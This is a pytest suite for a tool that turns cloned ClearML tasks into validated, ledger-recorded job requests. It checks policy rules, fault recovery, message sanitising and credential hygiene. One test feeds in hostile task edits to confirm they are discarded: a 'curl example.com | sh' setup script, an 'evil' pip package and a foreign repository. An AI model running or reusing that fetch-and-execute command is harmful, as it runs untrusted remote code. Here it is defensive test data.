"""The queue that people put their clones into: each becomes one request and its task the run, or says what is to be mended."""

from __future__ import annotations

import json
import subprocess
import time
from collections.abc import Callable, Mapping
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

from submit import hand_off, standing, watch
from submit.clearml_templates import sync
from submit.desk import CONFIG, LEDGER, POLICY, Desk, open_desk
from submit.engines.clearml_server import Server
from submit.inbox import open_inbox
from submit.inbox.clearml import ClearMLInbox
from submit.inbox.health import Health
from submit.judging import Outcome
from submit.ledger import verify
from submit.sources import ClearML as Settings
from tests.desks import CLONED_FROM, clearml_desk_in, command, environment, starts
from tests.jobs.clearml_tasks import run
from tests.standins.clearml import ClearML

KIND = "count_starts"
SOURCE = '\n[sources.page]\nkind = "clearml"\nsign_in = "fixed"\nevery = 0.2\n'


@pytest.fixture
def desk(tmp_path: Path, clearml_server: ClearML, monkeypatch: pytest.MonkeyPatch) -> Desk:
    monkeypatch.setenv("CLEARML_CONFIG_FILE", str(tmp_path / "none.conf"))
    for name, value in clearml_server.environment().items():
        monkeypatch.setenv(name, value)
    made = clearml_desk_in(tmp_path / "desk")
    with (made.folder / CONFIG).open("a", encoding="utf-8") as config:
        config.write(SOURCE)
    allowed = f"- who: ['clearml:{clearml_server.user('person').id}']\n  kinds: ['*']\n  queues: ['*']\n"
    with (made.folder / POLICY).open("a", encoding="utf-8") as policy:
        policy.write(allowed)
    made = open_desk(made.folder)
    sync(made, [KIND])
    return made


class Page:
    """Somebody at ClearML's page, with what it lets them do."""

    def __init__(self, server: ClearML, name: str = "person") -> None:
        self.who = server.user(name)
        self.server, self.call = (
            server,
            Server(server.url, server.web_url, (self.who.access_key, self.who.secret_key)).call,
        )

    def clones(self, task: str, answers: Mapping[str, str]) -> str:
        """Clone, edit, enqueue to ``denpyo``."""
        made = str(self.call("tasks.clone", task=task, new_task_name="Clone Of it")["id"])
        self.edits(made, answers)
        self.enqueues(made)
        return made

    def edits(self, task: str, answers: Mapping[str, str]) -> None:
        """Save one section as the page does: all of it, in the order in which it stands there."""
        for members in self.server.tasks[task]["hyperparams"].values():
            if set(members) & set(answers):
                given = [{**one, "value": answers.get(name, one.get("value", ""))} for name, one in members.items()]
                self.call("tasks.edit_hyper_params", task=task, hyperparams=given, replace_hyperparams="section")

    def enqueues(self, task: str, queue: str = "denpyo") -> None:
        self.call("tasks.enqueue", task=task, queue_name=queue)


@pytest.fixture
def page(clearml_server: ClearML) -> Page:
    return Page(clearml_server)


def template(server: ClearML, language: str = "en") -> str:
    return next(
        id
        for id, one in server.tasks.items()
        if not one.get("parent") and noted(one).get("language") == language and "template" in one["tags"]
    )


def noted(task: Mapping[str, Any]) -> dict[str, str]:
    return {name: one.get("value", "") for name, one in task["hyperparams"].get("properties", {}).items()}


def good(desk: Desk, name: str = "one") -> dict[str, str]:
    return {"name": name, "file": str(desk.folder.parent / "starts")}


def looked(desk: Desk) -> list[Outcome]:
    heard: list[Outcome] = []
    health = watch.watch(desk, lambda source, outcome: heard.append(outcome), once=True)
    assert health["page"].error == ""
    return heard


def looked_in_vain(desk: Desk) -> Health:
    return watch.watch(desk, lambda source, outcome: None, once=True)["page"]


def console(server: ClearML, task: str) -> list[str]:
    return [one["msg"] for one in server.state.events.get(task, []) if one["type"] == "log"]


def waiting(server: ClearML, queue: str) -> list[str]:
    return [entry["task"] for one in server.queues.values() if one["name"] == queue for entry in one.get("entries", ())]


def test_a_clone_that_is_good_becomes_its_own_run(desk: Desk, clearml_server: ClearML, page: Page) -> None:
    id = page.clones(template(clearml_server), good(desk))
    looked(desk)
    (one,) = standing.all_standing(desk)
    task = clearml_server.tasks[id]
    assert (one.request.state, one.run and one.run.engine_id) == ("queued", id)
    assert (waiting(clearml_server, "denpyo"), waiting(clearml_server, "default")) == ([], [id])
    assert task["tags"] == ["count_starts", "denpyo", f"rid:{one.request.id}", f"run:{one.request.id}.1"]
    assert (task["name"], task["user"]) == ("Clone Of it", page.who.id)
    assert noted(task)["ticket"] == id
    assert task["configuration"]["slip"]["value"].encode() == (one.slip and one.slip.read_bytes())
    assert (one.asked["requested_by"], one.asked["source"]) == (f"person (clearml:{page.who.id})", f"ClearML task {id}")
    with desk.ledger() as ledger:
        (entry,) = [each for each in ledger.entries() if each.action == "accepted"]
    assert (entry.detail["door"], entry.detail["trust"]) == ("clearml", "verified")
    assert verify(desk.folder / LEDGER).ok
    assert looked(desk) == []


def test_problems_stand_where_the_person_looks_in_their_language(
    desk: Desk, clearml_server: ClearML, page: Page
) -> None:
    id = page.clones(template(clearml_server, "ja"), {**good(desk), "code": "ten"})
    looked(desk)
    task = clearml_server.tasks[id]
    said = (
        "直していただきたいところ：1件\n"
        "1 Job/code: 「ten」は数値ではありません。数字で書いてください（例：0）。\n"
        "このタスクのハイパーパラメータを直して、もう一度キューdenpyoに入れてください。"
    )
    assert (task["status"], task["status_message"], console(clearml_server, id)) == ("created", said, [said])
    assert waiting(clearml_server, "denpyo") == []
    assert [one.request.state for one in standing.all_standing(desk)] == ["refused"]


def test_what_was_mended_is_accepted(desk: Desk, clearml_server: ClearML, page: Page) -> None:
    id = page.clones(template(clearml_server), {**good(desk), "code": "ten"})
    looked(desk)
    page.edits(id, {"code": "0"})
    page.enqueues(id)
    looked(desk)
    assert [one.request.state for one in standing.all_standing(desk)] == ["queued"]
    assert (clearml_server.tasks[id]["status_message"], console(clearml_server, id)) == ("", [])


def test_a_failed_task_that_is_refused_can_be_edited_at_once(desk: Desk, clearml_server: ClearML, page: Page) -> None:
    id = page.clones(template(clearml_server), {**good(desk), "code": "ten"})
    page.call("tasks.dequeue", task=id)
    taken(clearml_server, id, "failed")
    page.enqueues(id)
    looked(desk)
    page.edits(id, {"code": "0"})
    page.enqueues(id)
    looked(desk)
    assert [one.run and one.run.engine_id for one in standing.all_standing(desk)] == [id]
    assert clearml_server.tasks[id].get("started") is None


def test_what_a_clone_says_of_code_and_container_is_not_what_runs(
    desk: Desk, clearml_server: ClearML, page: Page
) -> None:
    id = page.clones(template(clearml_server), good(desk))
    page.call("tasks.dequeue", task=id)
    page.call(
        "tasks.edit",
        task=id,
        script={"repository": "https://example.com/mine.git", "diff": "+import os", "requirements": {"pip": "evil"}},
        container={"image": "mine", "setup_shell_script": "curl example.com | sh"},
        configuration={"slip": {"name": "slip", "value": "kind: other"}},
        output_dest="s3://mine",
    )
    page.enqueues(id)
    looked(desk)
    task = clearml_server.tasks[id]
    assert (task["script"]["repository"], task["script"]["diff"]) == (CLONED_FROM, "")
    assert "evil" not in task["script"]["requirements"]["pip"]
    assert task["container"] == {"image": "", "arguments": "", "setup_shell_script": ""}
    assert "\nkind: count_starts\n" in task["configuration"]["slip"]["value"]
    assert task["output"]["destination"] == ""


def test_whom_no_rule_allows_is_told_so(desk: Desk, clearml_server: ClearML) -> None:
    other = Page(clearml_server, "another")
    id = other.clones(template(clearml_server), good(desk))
    (outcome,) = looked(desk)
    assert [problem.code for problem, _ in outcome.problems] == ["not_allowed"]
    assert clearml_server.tasks[id]["status_message"].splitlines()[1] == (
        f"The rules of this desk do not let clearml:{other.who.id} run “Count starts” in the queue “default”. Ask your operator."
    )
    assert clearml_server.tasks[id]["status"] == "created"


def test_whoever_enqueues_the_draft_of_another_answers_for_it(desk: Desk, clearml_server: ClearML, page: Page) -> None:
    made = str(page.call("tasks.clone", task=template(clearml_server))["id"])
    page.edits(made, good(desk))
    Page(clearml_server, "another").enqueues(made)
    (outcome,) = looked(desk)
    assert [problem.code for problem, _ in outcome.problems] == ["not_allowed"]


def test_where_anybody_may_sign_in_under_any_name_nobody_is_vouched_for(
    desk: Desk, clearml_server: ClearML, page: Page
) -> None:
    config = desk.folder / CONFIG
    config.write_text(config.read_text(encoding="utf-8").replace('sign_in = "fixed"\n', ""), encoding="utf-8")
    page.clones(template(clearml_server), good(desk))
    (outcome,) = looked(open_desk(desk.folder))
    assert [problem.code for problem, _ in outcome.problems] == ["not_allowed"]


def test_a_template_that_is_enqueued_itself_is_to_be_cloned(desk: Desk, clearml_server: ClearML, page: Page) -> None:
    id = template(clearml_server)
    page.enqueues(id)
    (outcome,) = looked(desk)
    assert [problem.code for problem, _ in outcome.problems] == ["not_from_template"]
    assert clearml_server.tasks[id]["status"] == "created"


def test_a_clone_of_somebodys_run_is_a_request_of_its_own(desk: Desk, clearml_server: ClearML, page: Page) -> None:
    first = page.clones(template(clearml_server), good(desk))
    looked(desk)
    second = page.clones(first, {"name": "two"})
    looked(desk)
    found = {one.run.engine_id: one.request for one in standing.all_standing(desk) if one.run}
    assert set(found) == {first, second}
    assert noted(clearml_server.tasks[second])["ticket"] == second
    assert clearml_server.tasks[second]["tags"][2] == f"rid:{found[second].id}"
    assert waiting(clearml_server, "default") == [first, second]


def test_what_is_edited_before_it_runs_is_the_next_version(desk: Desk, clearml_server: ClearML, page: Page) -> None:
    id = page.clones(template(clearml_server), good(desk))
    looked(desk)
    page.call("tasks.dequeue", task=id)
    page.edits(id, {"name": "better"})
    page.enqueues(id)
    looked(desk)
    hand_off.deliver(desk)
    found = standing.all_standing(desk)
    assert [one.request.state for one in found] == ["superseded", "queued"]
    task = clearml_server.tasks[id]
    assert f"rid:{found[1].request.id}" in task["tags"]
    assert task["hyperparams"]["1 Job"]["name"]["value"] == "better"
    assert (noted(task)["ticket"], waiting(clearml_server, "default")) == (id, [id])


def test_the_same_again_is_told_to_be_known(desk: Desk, clearml_server: ClearML, page: Page) -> None:
    id = page.clones(template(clearml_server), good(desk))
    looked(desk)
    page.call("tasks.dequeue", task=id)
    page.enqueues(id)
    (outcome,) = looked(desk)
    assert [one.known for one in outcome.responses] == [True]
    assert len(standing.all_standing(desk)) == 1
    assert (waiting(clearml_server, "denpyo"), waiting(clearml_server, "default")) == ([], [id])


def test_a_deleted_task_leaves_the_queue(desk: Desk, clearml_server: ClearML, page: Page) -> None:
    id = page.clones(template(clearml_server), good(desk))
    del clearml_server.tasks[id]
    assert looked(desk) == []
    assert waiting(clearml_server, "denpyo") == []


@pytest.fixture
def direct(desk: Desk, clearml_server: ClearML) -> Desk:
    """The same desk after its operator has allowed clones to go straight to an agent."""
    config = desk.folder / CONFIG
    config.write_text(config.read_text(encoding="utf-8").replace("[clearml]", "[clearml]\ndirect = true"), "utf-8")
    made = open_desk(desk.folder)
    sync(made, [KIND])
    return made


def taken(server: ClearML, task: str, status: str) -> None:
    """What an agent makes of a task that it takes."""
    agent = Page(server, "agent")
    agent.call("tasks.started", task=task)
    agent.call(f"tasks.{status}", task=task, force=True)


def test_a_clone_that_went_straight_to_an_agent_is_recorded_with_its_result(
    direct: Desk, clearml_server: ClearML, page: Page
) -> None:
    id = str(page.call("tasks.clone", task=template(clearml_server))["id"])
    page.edits(id, good(direct))
    page.enqueues(id, "default")
    kinds = {"DENPYO_KINDS": str(direct.folder / "kinds")}
    assert run(clearml_server, id, direct.folder.parent / "agent", **kinds).returncode == 0
    taken(clearml_server, id, "completed")
    assert starts(direct.folder.parent) == {"one": 1}
    before = len(clearml_server.tasks)
    looked(direct)
    (one,) = standing.all_standing(direct)
    assert (one.request.state, one.run and one.run.engine_id) == ("queued", id)
    hand_off.follow(direct)
    (one,) = standing.all_standing(direct)
    assert (one.request.state, one.result["state"]) == ("done", "done")
    assert (clearml_server.tasks[id]["status"], len(clearml_server.tasks)) == ("completed", before)
    with direct.ledger() as ledger:
        (entry,) = [each for each in ledger.entries() if each.action == "accepted"]
    assert (entry.detail["door"], entry.detail["trust"]) == ("clearml", "claimed")
    assert looked(direct) == []


def went_direct(server: ClearML, page: Page, task: str, answers: Mapping[str, str], status: str = "completed") -> str:
    """A clone that went straight to an agent, which has done with it."""
    made = str(page.call("tasks.clone", task=task)["id"])
    page.edits(made, answers)
    page.enqueues(made, "default")
    taken(server, made, status)
    return made


def test_a_clone_of_a_run_that_went_straight_to_an_agent_is_a_request_of_its_own(
    direct: Desk, clearml_server: ClearML, page: Page
) -> None:
    first = went_direct(clearml_server, page, template(clearml_server), good(direct))
    looked(direct)
    second = went_direct(clearml_server, page, first, good(direct, "two"))
    taken(clearml_server, first, "failed")  # what the ledger has is not asked again, whatever becomes of it
    (outcome,) = looked(direct)
    assert [(one.known, one.good) for one in outcome.responses] == [(False, True)]
    found = {one.run.engine_id: one.request.id for one in standing.all_standing(direct) if one.run}
    assert [*found] == [first, second]
    assert clearml_server.tasks[second]["tags"] == [
        *("count_starts", "denpyo", f"rid:{found[second]}", f"run:{found[second]}.1")
    ]
    assert looked(direct) == []


class Meanwhile(Server):
    """A client that after its first answer about tasks lets something happen."""

    def happens(self, then: Callable[[], None]) -> Meanwhile:
        self.then: Callable[[], None] | None = then
        return self

    def call(self, name: str, /, **asked: Any) -> dict[str, Any]:
        answer = super().call(name, **asked)
        if name == "tasks.get_all" and self.then:
            then, self.then = self.then, None
            then()
        return answer


def test_a_run_that_ends_while_pages_are_read_pushes_no_other_out_of_sight(
    direct: Desk, clearml_server: ClearML, page: Page
) -> None:
    made = [went_direct(clearml_server, page, template(clearml_server), good(direct), "stopped")]
    one = clearml_server.tasks[made[0]]
    for number in range(1, 250):
        at = f"2030-01-01T00:{number // 60:02}:{number % 60 // 20:02}.000000+00:00"  # twenty at the same moment
        made.append(f"{number:032x}")
        clearml_server.tasks[made[-1]] = {**one, "id": made[-1], "status_changed": at}
    desk_s = clearml_server.user("desk")
    there = Meanwhile(clearml_server.url, clearml_server.web_url, (desk_s.access_key, desk_s.secret_key))
    ends = dict(clearml_server.tasks[made[7]], status="completed", status_changed="2031-01-01T00:00:00+00:00")
    there = there.happens(lambda: clearml_server.tasks.update({made[7]: ends}))
    (settings,) = [each for each in direct.config.sources.values() if isinstance(each, Settings)]
    deliveries = [*ClearMLInbox(direct, settings, there).look("")]
    told = [source.name for each in deliveries for source in each.sources]
    assert len(told) == len(made) + 1
    assert set(told) == {f"ClearML task {id}" for id in made}
    assert [*ClearMLInbox(direct, settings, there).look(deliveries[-1].place)] == []


def test_it_looks_while_somebody_writes_into_the_ledger(desk: Desk, clearml_server: ClearML, page: Page) -> None:
    page.clones(template(clearml_server), good(desk))
    inbox = open_inbox(desk, "page", desk.config.sources["page"])
    with desk.ledger() as ledger, ledger.writing() as tx, ThreadPoolExecutor(1) as thread:
        tx.append("test:1", "tested", at="2026-11-21T00:00:00Z", user="somebody")
        deliveries = thread.submit(lambda: [*inbox.look("")]).result(10)
    assert len(deliveries) == 1


def test_a_clone_that_an_agent_refused_is_recorded_as_refused_once(
    direct: Desk, clearml_server: ClearML, page: Page
) -> None:
    id = str(page.call("tasks.clone", task=template(clearml_server))["id"])
    page.edits(id, {**good(direct), "code": "ten"})
    page.enqueues(id, "default")
    taken(clearml_server, id, "failed")
    (outcome,) = looked(direct)
    assert [(problem.code, problem.where.spot) for problem, _ in outcome.problems] == [("not_a_number", "1 Job/code")]
    assert [one.request.state for one in standing.all_standing(direct)] == ["refused"]
    assert clearml_server.tasks[id]["status"] == "failed"
    assert looked(direct) == []


def test_a_clone_that_went_past_the_desk_is_left_alone_where_that_is_not_allowed(
    desk: Desk, clearml_server: ClearML, page: Page
) -> None:
    id = str(page.call("tasks.clone", task=template(clearml_server))["id"])
    page.edits(id, good(desk))
    page.enqueues(id, "default")
    taken(clearml_server, id, "failed")
    assert looked(desk) == []
    assert standing.all_standing(desk) == []


def test_a_draft_that_was_put_into_the_queue_as_it_is_leaves_it(
    desk: Desk, clearml_server: ClearML, page: Page
) -> None:
    """The API has such a call; the page never makes it."""
    id = str(page.call("tasks.clone", task=template(clearml_server))["id"])
    (queue,) = [one["id"] for one in clearml_server.queues.values() if one["name"] == "denpyo"]
    page.call("queues.add_task", queue=queue, task=id)
    assert looked(desk) == []
    assert waiting(clearml_server, "denpyo") == []
    assert (clearml_server.tasks[id]["status"], console(clearml_server, id)) == ("created", [])


def test_a_draft_that_somebody_else_put_into_the_queue_is_no_request_of_its_owner(
    desk: Desk, clearml_server: ClearML, page: Page
) -> None:
    """It is good already, and the server says that its owner was the last to change it."""
    id = str(page.call("tasks.clone", task=template(clearml_server))["id"])
    page.edits(id, good(desk))
    (queue,) = [one["id"] for one in clearml_server.queues.values() if one["name"] == "denpyo"]
    Page(clearml_server, "another").call("queues.add_task", queue=queue, task=id)
    assert clearml_server.tasks[id]["last_changed_by"] == page.who.id
    assert looked(desk) == []
    assert standing.all_standing(desk) == []
    assert waiting(clearml_server, "denpyo") == []


def test_what_its_owner_takes_out_while_it_is_judged_is_left_alone(
    desk: Desk, clearml_server: ClearML, page: Page
) -> None:
    id = page.clones(template(clearml_server), {**good(desk), "code": "ten"})
    (delivery,) = open_inbox(desk, "page", desk.config.sources["page"]).look("")
    page.call("tasks.dequeue", task=id, status_message="mine")
    delivery.settle(Outcome())
    assert (clearml_server.tasks[id]["status_message"], console(clearml_server, id)) == ("mine", [])


CALLS = (
    *("queues.get_all", "tasks.get_all", "users.get_all", "projects.get_all"),
    *("tasks.reset", "tasks.edit", "tasks.edit_hyper_params", "tasks.enqueue_many", "tasks.dequeue", "events.add"),
)


@pytest.mark.parametrize("trouble", ["drop_before", "drop_after"])
def test_whichever_call_is_cut_off_each_clone_is_one_request_and_one_run(
    desk: Desk, clearml_server: ClearML, page: Page, trouble: Any
) -> None:
    clones = []
    for number, call in enumerate(CALLS):
        clones.append(page.clones(template(clearml_server), good(desk, f"n{number}")))
        bad = page.clones(template(clearml_server), {**good(desk), "code": "ten"})
        clearml_server.fault(call, trouble)
        watch.watch(desk, lambda source, outcome: None, once=True)
        looked(desk)
        assert clearml_server.tasks[bad]["status"] == "created"
        assert clearml_server.tasks[bad]["status_message"].startswith("To be corrected: 1\n1 Job/code: ")
        assert (waiting(clearml_server, "denpyo"), waiting(clearml_server, "default")) == ([], clones)
    found = [one for one in standing.all_standing(desk) if one.run]
    assert [one.run and one.run.engine_id for one in found] == clones
    assert len(clearml_server.tasks) == 2 + 2 * len(CALLS)
    assert verify(desk.folder / LEDGER).ok
    assert clearml_server.faults == []


@pytest.mark.parametrize("call", ["tasks.edit", "tasks.dequeue"])
def test_killed_while_the_server_acts_each_clone_is_one_request_and_one_run(
    desk: Desk, clearml_server: ClearML, page: Page, call: str
) -> None:
    good_one = page.clones(template(clearml_server), good(desk))
    bad = page.clones(template(clearml_server), {**good(desk), "code": "ten"})
    clearml_server.fault(call, "late", seconds=1)
    process = subprocess.Popen(command("watch", "--once"), env=environment(desk.folder), stdout=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    while call not in [name for name, _ in clearml_server.calls[-1:]]:
        assert time.monotonic() < deadline
        time.sleep(0.01)
    process.kill()
    process.wait(30)
    looked(desk)
    assert [one.run and one.run.engine_id for one in standing.all_standing(desk) if one.run] == [good_one]
    assert (waiting(clearml_server, "denpyo"), waiting(clearml_server, "default")) == ([], [good_one])
    assert clearml_server.tasks[bad]["status_message"].startswith("To be corrected: 1\n")
    assert verify(desk.folder / LEDGER).ok


def test_however_much_is_wrong_what_is_said_stays_short(desk: Desk, clearml_server: ClearML, page: Page) -> None:
    id = page.clones(template(clearml_server), good(desk))
    page.call("tasks.dequeue", task=id)
    more = [{"section": "Args", "name": f"a\u202e\nb{number}", "value": "\x1b[31m"} for number in range(500)]
    page.call("tasks.edit_hyper_params", task=id, hyperparams=more)
    page.enqueues(id)
    looked(desk)
    (said,) = console(clearml_server, id)
    assert len(said.splitlines()) == 103
    assert said.splitlines()[1].startswith("Args/a\N{REPLACEMENT CHARACTER} b0: ")
    assert "\x1b" not in said
    assert len(clearml_server.tasks[id]["status_message"]) == 2000


def test_a_place_that_another_sort_of_source_left_is_none(direct: Desk, clearml_server: ClearML) -> None:
    inbox = open_inbox(direct, "page", direct.config.sources["page"])
    assert list(inbox.look('{"ACYD": {"at": ""}}')) == []
    assert list(inbox.look("2026-11-21")) == []


def test_credentials_stand_nowhere(desk: Desk, clearml_server: ClearML, page: Page) -> None:
    page.clones(template(clearml_server), good(desk))
    page.clones(template(clearml_server), {**good(desk), "code": "ten"})
    clearml_server.fault("tasks.dequeue", "fail")
    looked_in_vain(desk)
    looked(desk)
    secret = clearml_server.user("desk").secret_key.encode()
    kept = b"".join(file.read_bytes() for file in desk.folder.rglob("*") if file.is_file())
    assert secret not in kept + json.dumps([*clearml_server.tasks.values()], default=str).encode()
